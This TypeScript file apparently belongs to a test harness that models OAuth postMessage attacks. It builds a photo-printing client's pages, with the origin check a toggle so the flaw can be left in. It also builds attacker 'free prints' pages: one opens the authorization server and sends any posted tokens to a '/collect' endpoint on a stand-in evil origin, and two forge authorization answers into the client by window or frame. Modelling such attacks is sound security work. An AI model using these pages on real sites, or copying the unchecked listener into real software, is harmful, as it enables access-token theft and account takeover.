/** Pages with a script that posts a message, or waits for one. What their scripts do is modelled; what stands in them is real. */
import { EVIL_ORIGIN } from "@/lib/cast/attacked";
import { API, CLIENT_ORIGIN, ISSUER } from "@/lib/cast/cast";
import { documentOf, html } from "@/lib/parties/html";

const script = (text: string) => ({ html: `<script>\n${text}\n</script>` });
const literal = (value: unknown): string => JSON.stringify(value).replace(/</g, "\\u003c");

const CHECK = `  if (e.origin !== "${ISSUER}") return;\n`;

/**
 * The client's page. It opens the server in a window of its own, waits for a message, and hands that to its own server.
 * @param shows what stands in a frame of it: whoever pays for the place decides that
 */
export const listenerPage = (checksSender: boolean, shows?: string): string =>
	documentOf(
		"Photo Print",
		html`<main>
<h1>Photo Print</h1>
<p>Print the photos that you keep online.</p>
<p><button type="button">Connect my photos</button></p>
${shows === undefined ? "" : html`<iframe src="${shows}" title="Advertisement"></iframe>\n`}</main>
${script(`document.querySelector("button").onclick = () => open("/connect");
addEventListener("message", (e) => {
${checksSender ? CHECK : ""}  location = "/cb?" + new URLSearchParams(e.data);
});`)}`,
	);

/** Another page of the client's, whose script wants the token itself, and calls the API with it. */
export const slidesPage = (checksSender: boolean): string =>
	documentOf(
		"Slides",
		html`<main>
<h1>Your photos as a slide show</h1>
<p><button type="button">Connect my photos</button></p>
</main>
${script(`addEventListener("message", async (e) => {
${checksSender ? CHECK : ""}  const { photos } = await (await fetch("${API}/photos", {
    headers: { Authorization: "Bearer " + e.data.access_token },
  })).json();
});`)}`,
	);

const offer = (text: string): string =>
	documentOf(
		"Free prints",
		html`<main>
<h1>Twenty prints for free</h1>
<p>This week only, at Photo Print.</p>
<p><button type="button">Get them</button></p>
</main>
${script(text)}`,
	);

/** Opens the server like the client would, and sends home whatever is posted to it. */
export const readerPage = (url: string): string =>
	offer(`document.querySelector("button").onclick = () => open(${literal(url)});
addEventListener("message", (e) => fetch("/collect?" + new URLSearchParams(e.data)));`);

/** Opens a page of the client's, and posts an answer to it. */
export const forgerPage = (answer: Readonly<Record<string, string>>, page: string): string =>
	offer(`document.querySelector("button").onclick = async () => {
  const other = open("${page}");
  await new Promise((ready) => setTimeout(ready, 2000));
  other.postMessage(${literal(answer)}, "${CLIENT_ORIGIN}");
};`);

/** Stands in a frame, and posts an answer to the page around it. */
export const framedPage = (answer: Readonly<Record<string, string>>): string =>
	offer(`parent.postMessage(${literal(answer)}, "${CLIENT_ORIGIN}");`);

export const COLLECT = `${EVIL_ORIGIN}/collect`;
